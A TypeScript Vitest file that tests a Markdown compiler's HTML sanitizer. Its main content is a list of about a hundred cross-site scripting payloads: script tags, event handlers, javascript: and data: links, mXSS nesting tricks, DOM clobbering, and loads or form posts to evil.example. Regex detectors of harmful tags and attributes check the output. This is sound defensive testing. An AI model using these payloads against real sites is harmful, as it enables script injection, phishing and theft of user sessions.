// @vitest-environment happy-dom
import { expect, test } from "vitest";
import { pageIds } from "#routes";
import { compileBody } from "./compile-body.ts";

function compile(text: string) {
  return compileBody({
    file: "blog/post.md",
    text,
    range: { start: 0, end: text.length },
    fragments: { wireframe: {}, code: {} },
    images: {},
    render: true,
  });
}

/** One of each public class of vector. None may leave anything that runs, loads, restyles or takes an id. */
const vectors = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:alert(1) onerror=eval(src)>",
  "<img/src=`x`onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img srcset="javascript:alert(1) 1x" src=/a.png>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  '<a href="  jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:alert(1))",
  "[x](//evil.example)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,x)",
  '![x"onerror="alert(1)](/a.png)',
  '![x](/a.png "x\\"onerror=alert(1)")',
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "<div style='background:url(javascript:alert(1))'>x</div>",
  "<p style=position:fixed;inset:0>x</p>",
  "<style>@import '//evil.example/x.css';</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<form action=//evil.example><input name=password><button>Go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
  "<div id=main>x</div>",
  "<a id=location name=cookie href=/a>x</a>",
  "<img name=getElementById src=/a.png>",
  "<h2 id=footnote-label onclick=x>x</h2>",
  "<p class='fixed inset-0'>x</p>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
  "<title><p title='</title><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)>?>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<x onclick=alert(1)>x</x>",
  "<custom-element is=x>x</custom-element>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "## <img src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "<video src=javascript:alert(1) poster=javascript:alert(1)></video>",
  '<video src="//evil.example/a.mp4" poster="/\\evil.example/a.png" autoplay onloadstart=alert(1)></video>',
  '<video src="./a.mp4"><source src="data:video/mp4;base64,x.mp4"><track src="javascript:alert(1)//x.vtt"><script>alert(1)</script></video>',
  "> [!<img src=x onerror=alert(1)>]\n> x",
  "> [!NOTE]\n> <img src=x onerror=alert(1)><script>alert(1)</script>",
  '```js title="<img src=x onerror=alert(1)>" {1} showLineNumbers\n<script>alert(1)</script>\n```',
  "```js title='\"><script>alert(1)</script>' {1}\n`<script>\n</mark></span>alert(1)`\n```",
  '![x](/a.png "<img src=x onerror=alert(1)>")',
  "[<img src=x onerror=alert(1)>](https://youtu.be/dQw4w9WgXcQ)",
  "<a href=https://youtu.be/dQw4w9WgXcQ data-player=javascript:alert(1) class=video-preview>x</a>",
  "https://www.youtube.com/watch?v=%22onload%3D1&t=%3Cscript%3E",
  "https://vimeo.com/123456/%22onload=alert(1)",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "[^'onclick=alert(1)]\n\n[^'onclick=alert(1)]: x",
  "- [ ] <input type=image src=x onerror=alert(1)>",
  "{{code:<img src=x onerror=alert(1)>}}",
  "&lt;img src=x onerror=alert(1)&gt;",
];

const FORBIDDEN =
  /^(?:script|style|link|meta|base|iframe|object|embed|form|button|svg|math|audio|template|marquee|textarea|title|noscript|x)$/u;
const FORBIDDEN_ATTRIBUTE = /^on|^style$|^srcset$|^name$|^is$|^form/u;
const SAFE_ADDRESS =
  /^(?:https?:\/\/|mailto:|\/(?![/\\])|#|\.\/|[\w%.-]+(?:$|[/?#]))/u;
/** Ids that are not ours are anchors of the text. */
const OUR_ID = new Set<string>(pageIds.filter((id) => id !== "footnote-label"));
const OUR_CLASS =
  /^$|^(?:tok-|language-|heading-anchor|table-scroll|sr-only|footnotes|data-footnote|contains-task-list|task-list-item|code-|callout|video)/u;

/** What in a page would run, load, restyle, or take an id or a class that is ours. */
function findHarm(html: string): string[] {
  const page = new DOMParser().parseFromString(html, "text/html");
  return [...page.querySelectorAll("body *")].flatMap((element) => {
    const name = element.tagName.toLowerCase();
    const harmful = [...element.attributes].filter((attribute) => {
      const { value } = attribute;
      switch (attribute.name) {
        case "href":
        case "src":
        case "poster":
          return !SAFE_ADDRESS.test(value);
        case "id":
          return OUR_ID.has(value);
        case "class":
          return !OUR_CLASS.test(value);
        default:
          return FORBIDDEN_ATTRIBUTE.test(attribute.name);
      }
    });
    return [
      ...(FORBIDDEN.test(name) ? [`<${name}>`] : []),
      ...harmful.map((found) => `${name} ${found.name}="${found.value}"`),
    ];
  });
}

test("finds harm where there is some", () => {
  const html =
    '<p onclick="x" style="y"><a href="javascript:z" id="main">a</a></p>';
  expect(findHarm(html)).toHaveLength(4);
});

test.for(vectors)("makes harmless %s", (vector) => {
  const html = compile(`Text\n\n${vector}\n\nMore\n`).rendered?.html ?? "";
  expect(html).toContain("<p>Text</p>");
  expect(findHarm(html)).toEqual([]);
});

test("says what it drops", () => {
  const { diagnostics } = compile(
    '<p style="x" onclick="y">a</p>\n\n<script>z</script>\n',
  );
  expect(
    diagnostics.map(({ rule, message, line }) => [rule, line, message]),
  ).toEqual([
    [
      "html/unsafe",
      1,
      "The attributes `style`, `onclick` of `<p>` are left out of the page.",
    ],
    ["html/unsafe", 3, "`<script>` and its content are left out of the page."],
  ]);
});

test("leaves what Markdown itself makes unreported", () => {
  const text =
    "## One\n\nText[^1] ~~x~~ https://a.example\n\n- [x] done\n\n| a |\n|:-:|\n| 1 |\n\n```js\n1\n```\n\n[^1]: Note.\n";
  expect(compile(text).diagnostics).toEqual([]);
});
